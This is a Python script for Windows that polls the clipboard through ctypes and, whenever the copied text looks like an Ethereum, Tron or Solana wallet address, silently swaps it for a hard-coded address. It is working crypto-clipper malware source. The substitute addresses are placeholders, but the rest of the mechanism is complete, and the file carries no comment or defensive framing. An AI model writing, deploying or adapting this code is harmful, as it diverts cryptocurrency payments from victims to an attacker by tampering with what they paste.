import ctypes
import re
import time
from ctypes import wintypes

CF_UNICODETEXT = 13
GMEM_MOVEABLE = 0x0002
u32 = ctypes.windll.user32
k32 = ctypes.windll.kernel32
k32.GlobalLock.restype = ctypes.c_void_p
k32.GlobalAlloc.restype = wintypes.HGLOBAL
u32.GetClipboardData.restype = wintypes.HANDLE

WALLETS = [
    (re.compile(r"^0x[0-9a-fA-F]{40}$"), "0x1111111111111111111111111111111111111111"),
    (re.compile(r"^T[1-9A-HJ-NP-Za-km-z]{33}$"), "TFAKEPLACEHOLDERxxxxxxxxxxxxxxxxxx"),
    (re.compile(r"^[1-9A-HJ-NP-Za-km-z]{32,44}$"), "So1anaFAKEPLACEHOLDERxxxxxxxxxxxxxxxxxxxxx"),
]


def get_text():
    if not u32.OpenClipboard(None):
        return None
    try:
        h = u32.GetClipboardData(CF_UNICODETEXT)
        if not h:
            return None
        p = k32.GlobalLock(h)
        try:
            return ctypes.wstring_at(p)
        finally:
            k32.GlobalUnlock(h)
    finally:
        u32.CloseClipboard()


def set_text(text):
    data = ctypes.create_unicode_buffer(text)
    size = ctypes.sizeof(data)
    h = k32.GlobalAlloc(GMEM_MOVEABLE, size)
    p = k32.GlobalLock(h)
    ctypes.memmove(p, data, size)
    k32.GlobalUnlock(h)
    if u32.OpenClipboard(None):
        u32.EmptyClipboard()
        u32.SetClipboardData(CF_UNICODETEXT, h)
        u32.CloseClipboard()


def monitor():
    last = u32.GetClipboardSequenceNumber()
    while True:
        seq = u32.GetClipboardSequenceNumber()
        if seq != last:
            last = seq
            t = (get_text() or "").strip()
            for rx, repl in WALLETS:
                if rx.match(t) and t != repl:
                    set_text(repl)
                    last = u32.GetClipboardSequenceNumber()
                    break
        time.sleep(0.3)
